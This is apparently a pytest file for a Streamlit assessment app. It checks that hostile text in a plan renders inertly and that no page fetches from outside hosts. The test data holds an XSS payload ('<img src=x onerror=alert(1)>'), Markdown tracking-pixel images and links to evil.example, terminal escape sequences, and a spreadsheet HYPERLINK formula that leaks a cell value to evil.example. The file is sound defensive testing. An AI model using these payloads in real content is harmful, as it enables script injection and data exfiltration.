"""Every page of the app, shown a plan whose every text is hostile: nothing renders as markup, nothing is fetched.

The plan's title, service, owner and free-text answers hold a Markdown image (a fetch: a tracking pixel), a link,
a colour directive, HTML, a bell, terminal escape sequences and a spreadsheet formula (a lone surrogate, which an
uploaded record can carry, is replaced on upload: tests/test_safe_text.py). Each page must run to its end (no
exception, no "something went wrong"), show no control character or lone surrogate, and send no Markdown element
with an active construct or an external address; in Chromium, the Register, Results, Export and Cumulative pages
fetch nothing from anywhere but the app.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
import streamlit as st
from openpyxl import load_workbook
from streamlit.testing.v1 import AppTest

from proofing.knowledge import DEFAULT_RULES_DIR, KnowledgeBase, load_knowledge
from proofing.plan import read_plan
from proofing.register import register_rows, rows_as_csv, rows_as_xlsx
from proofing.service import save_draft, start_assessment
from proofing.store import Store

ROOT = Path(__file__).resolve().parent.parent
EXAMPLES = ROOT / "examples"

HOSTILE = (
    "![p](http://evil.example/p.png) [click](https://evil.example/x) :red[APPROVED] <img src=x onerror=alert(1)>"
    " <b>bold</b> **strong** $x$ bell\x07 esc\x1b[2J\x1b]0;owned\x07 www.evil.example"
)
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
PAGES = (
    "assess.py",
    "results.py",
    "export.py",
    "register.py",
    "cumulative.py",
    "rule_base.py",
    "audit.py",
    "workshop.py",
    "join.py",
    "training.py",
    "trainer.py",
    "admin.py",
)
# Markdown constructs that render as something other than the text typed, when not escaped by a backslash.
ACTIVE = re.compile(r"!\[|\]\(|:red\[|<img|<b>|\*\*strong|\$x\$|https?://|www\.evil")
UNSAFE_CHARACTERS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f\ud800-\udfff]")


def active_markup(markdown: str) -> list[str]:
    """The active constructs left in a Markdown source once every backslash escape is taken out."""
    return ACTIVE.findall(re.sub(r"\\.", "", markdown))


@pytest.fixture()
def hostile_store(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, kb: KnowledgeBase) -> Iterator[tuple[Store, str]]:
    url = f"sqlite:///{tmp_path / 'app.db'}"
    monkeypatch.setenv("PROOFING_DB_URL", url)
    st.cache_resource.clear()
    store = Store(url)
    plan = read_plan(EXAMPLES / "day-centre-closure.yaml")
    hostile = plan.model_copy(
        update={
            "title": HOSTILE,
            "service": HOSTILE + " service",
            "owner": FORMULA,
            "description": HOSTILE,
            "answers": plan.answers
            | {"wards": [HOSTILE, "dyffryn_ceiriog"], "evidence_gaps": HOSTILE, "engagement_results": HOSTILE},
        }
    )
    assessment_id = start_assessment(store, kb, hostile)  # through the service, as a page starts one: it is indexed
    start_assessment(
        store, kb, plan
    )  # a second plan on the same people: "also affected by", and the cumulative map's cells
    yield store, assessment_id
    st.cache_resource.clear()


def texts_of(at: AppTest) -> tuple[list[str], list[str]]:
    """Every Markdown source the page sent (titles, alerts, captions, labels, and the cells of a plain table, which
    st.table renders as Markdown), and every other text on it (a data grid's cells are text)."""
    markdowns: list[str] = []
    for kind in ("markdown", "title", "header", "subheader", "caption", "info", "warning", "error", "success"):
        markdowns += [str(element.value) for element in getattr(at, kind)]
    markdowns += [str(element.label) for element in at.main if getattr(element, "label", None)]
    markdowns += [str(element.label) for element in at.sidebar if getattr(element, "label", None)]
    for table in at.table:
        markdowns += [str(value) for value in table.value.to_numpy().ravel()]
    others = [str(element.value) for element in at.text]
    for frame in at.dataframe:
        others += [str(value) for value in frame.value.to_numpy().ravel()]
    for element in at.main:
        others += [str(option) for option in getattr(element, "options", []) or []]
    return markdowns, others


@pytest.mark.parametrize("name", PAGES)
def test_every_page_shows_a_hostile_plan_as_text(hostile_store: tuple[Store, str], name: str) -> None:
    _store, assessment_id = hostile_store
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=120)
    at.query_params["assessment"] = assessment_id
    at.switch_page(f"views/{name}")
    at.run()
    if name == "register.py":  # the row's own part: its heading, its words, its actions
        rows = list(at.dataframe[0].value["Title"])
        at.session_state["register_table"] = {
            "selection": {"rows": [rows.index(next(r for r in rows if "evil" in r))], "columns": [], "cells": []}
        }
        at.run()
    assert not at.exception, at.exception
    markdowns, others = texts_of(at)
    assert not any("something went wrong" in text for text in markdowns), markdowns
    assert "evil" in " ".join(markdowns + others) or name not in ("assess.py", "results.py", "register.py")
    for text in markdowns:
        assert active_markup(text) == [], text
    for text in markdowns + others:
        assert UNSAFE_CHARACTERS.search(text) is None, repr(text)
    if name == "register.py":  # the row chosen, and the sign-off part below the exports, are reached
        assert any("Open" in str(button.label) for button in at.button)


def test_a_hostile_finding_title_in_the_results_tables_is_text(
    hostile_store: tuple[Store, str], kb: KnowledgeBase
) -> None:
    """st.table renders Markdown: a finding an EIA workshop added, its title typed in the room, reaches the Results
    page's table of before and after made inert, never a link, an image or markup."""
    store, assessment_id = hostile_store
    latest = store.latest(assessment_id)
    assert latest is not None
    added = {"title": HOSTILE, "groups": ["age"], "reason": HOSTILE, "likelihood": 4, "severity": 4, "workshop": "w1"}
    notes = {"added": {"raised-1": added}}
    save_draft(store, kb, assessment_id, latest.plan, latest.decisions, notes, expected_version=latest.version)
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=120)
    at.query_params["assessment"] = assessment_id
    at.switch_page("views/results.py")
    at.run()
    assert not at.exception, at.exception
    cells = [str(value) for table in at.table for value in table.value.to_numpy().ravel()]
    hostile = [cell for cell in cells if "evil" in cell]
    assert hostile, cells  # the workshop's finding is in the table
    assert all(active_markup(cell) == [] for cell in cells), hostile


def test_the_cumulative_page_names_no_free_text_ward(hostile_store: tuple[Store, str]) -> None:
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=120)
    at.switch_page("views/cumulative.py")
    at.run()
    assert not at.exception
    wards = next(box for box in at.selectbox if box.key == "cell_by")
    wards.set_value("ward").run()
    column = next(box for box in at.selectbox if box.key == "cell_column")
    assert column.options == ["Dyffryn Ceiriog"]


def test_the_register_exports_a_hostile_plan(hostile_store: tuple[Store, str]) -> None:
    store, _assessment_id = hostile_store
    rows = register_rows(load_knowledge(DEFAULT_RULES_DIR), store.list())
    sheet = load_workbook(io.BytesIO(rows_as_xlsx(rows))).active
    values = [str(cell.value) for row in sheet.iter_rows(min_row=2) for cell in row]
    assert not any(UNSAFE_CHARACTERS.search(value) for value in values)
    assert f"'{FORMULA}" in values  # kept as text, never run
    assert "bell\u2407" in " ".join(values)  # the bell shown, not dropped silently
    cells = [value for row in csv.reader(io.StringIO(rows_as_csv(rows).decode("utf-8-sig"))) for value in row]
    assert not any(UNSAFE_CHARACTERS.search(value) for value in cells) and f"'{FORMULA}" in cells


# --- in a real browser: nothing is fetched from anywhere but the app --------------------------------------------


def test_a_browser_fetches_nothing_from_outside_for_a_hostile_plan(tmp_path: Path, kb: KnowledgeBase) -> None:
    from urllib.parse import urlsplit

    from playwright.sync_api import Request, Route, sync_playwright

    from tests.conftest import CHROMIUM, CHROMIUM_FLAGS
    from tests.test_e2e_browser import settle, start_app

    database = f"sqlite:///{tmp_path / 'browser.db'}"
    store = Store(database)
    plan = read_plan(EXAMPLES / "day-centre-closure.yaml")
    hostile = plan.model_copy(
        update={
            "title": HOSTILE,
            "service": HOSTILE,
            "owner": FORMULA,
            "answers": plan.answers | {"wards": [HOSTILE, "dyffryn_ceiriog"], "evidence_gaps": HOSTILE},
        }
    )
    assessment_id = start_assessment(store, kb, hostile)  # indexed, so the cumulative page shows it too
    start_assessment(store, kb, plan)
    outside: list[str] = []

    def watch(request: Request) -> None:
        if urlsplit(request.url).hostname not in ("127.0.0.1", None) and not request.url.startswith("data:"):
            outside.append(request.url)

    def refuse(route: Route) -> None:  # nothing leaves this machine, even where the test would fail
        host = urlsplit(route.request.url).hostname
        route.continue_() if host == "127.0.0.1" or route.request.url.startswith("data:") else route.abort()

    with start_app(database) as url, sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_FLAGS)
        page = browser.new_page(viewport={"width": 1280, "height": 1000})
        page.on("request", watch)
        page.route("**/*", refuse)
        seen: list[str] = []
        for address in (
            "/register",
            f"/results?assessment={assessment_id}",
            f"/export?assessment={assessment_id}",
            "/cumulative",
        ):
            page.goto(url + address)
            settle(page)
            if address == "/register":  # choose the hostile plan's row: its heading, words and actions are drawn
                grid = page.get_by_test_id("stDataFrame")
                box = grid.bounding_box()
                assert box is not None
                for row in (0, 1):
                    page.mouse.click(box["x"] + 16, box["y"] + 36 + 17 + 35 * row)
                    settle(page)
                    if "evil.example" in page.get_by_test_id("stMain").inner_text():
                        break
            text = page.get_by_test_id("stMain").inner_text()
            seen.append(text)
            assert "evil.example" in text or address == "/cumulative", address  # the hostile text is shown, as text
            assert page.locator("[data-testid='stMain'] img[src*='evil.example']").count() == 0
            links = page.locator("[data-testid='stMain'] a[href*='evil.example']")
            assert links.count() == 0, [links.nth(n).evaluate("e => e.outerHTML") for n in range(links.count())]
        browser.close()
    assert outside == []
    assert any("![p](http://evil.example/p.png)" in text.replace("\u2060", "") for text in seen)  # as typed
